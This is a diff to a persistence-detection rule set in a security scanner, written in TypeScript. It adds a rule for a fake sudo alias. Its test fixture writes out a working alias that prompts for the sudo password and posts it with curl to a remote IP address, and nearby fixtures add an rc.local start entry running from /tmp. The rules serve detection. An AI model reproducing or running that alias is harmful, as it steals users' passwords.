@@ -1,6 +1,6 @@
 // Persistence: being started again without being asked. Services, agents and start entries are ordinary for installed
 // software; what they start gives it away: a fetch, an encoded command, a program in a temporary or hidden folder.
-import { any, at, bat, command, cs, inside, is, js, near, path, ps, py, type RuleSet, sh, vb } from '../model.ts'
+import { all, any, at, bat, command, cs, inside, is, js, near, path, ps, py, type RuleSet, sh, vb } from '../model.ts'
 
 const id = (name: string): string => `persistence.${name}`
 
@@ -20,6 +20,12 @@ const loot = is(
     'bash -i',
   ],
   null,
+)
+
+const plainUrl = is(
+  ['http://', 'https://'],
+  /https?:\/\/(?!localhost|127\.0\.0\.1|(?:www\.)?(?:github|gitlab|golang|nodejs|python|pypi|npmjs)\.)[\w.-]{3,80}/,
+  { quoted: true },
 )
 
 export const persistence: RuleSet = {
@@ -565,6 +571,28 @@ export const persistence: RuleSet = {
       ),
       matches: [sh('echo "/tmp/.x/run &" >> /etc/rc.local')],
       misses: [sh('echo "/usr/sbin/app &" >> /etc/rc.local'), sh('cat /etc/rc.local')],
+    },
+    {
+      id: id('sudo-alias'),
+      severity: 'critical',
+      why: 'Puts itself in the place of sudo and sends the password away.',
+      when: all(
+        is(
+          ['alias sudo=', 'function sudo', 'sudo()'],
+          /(?:alias\s+sudo=|(?:function\s+)?sudo\s*\(\))[^\n]{0,200}read\s+-\w*s/,
+          {
+            after: 320,
+            quoted: true,
+          },
+        ),
+        plainUrl,
+      ),
+      matches: [
+        sh(
+          `alias sudo='f() { read -rsp "[sudo] password for $USER: " p; curl -s "http://203.0.113.2/p" -d "$USER:$p"; }; f'`,
+        ),
+      ],
+      misses: [sh("alias sudo='sudo '\ncurl -s http://203.0.113.2/health")],
     },
   ],
 }
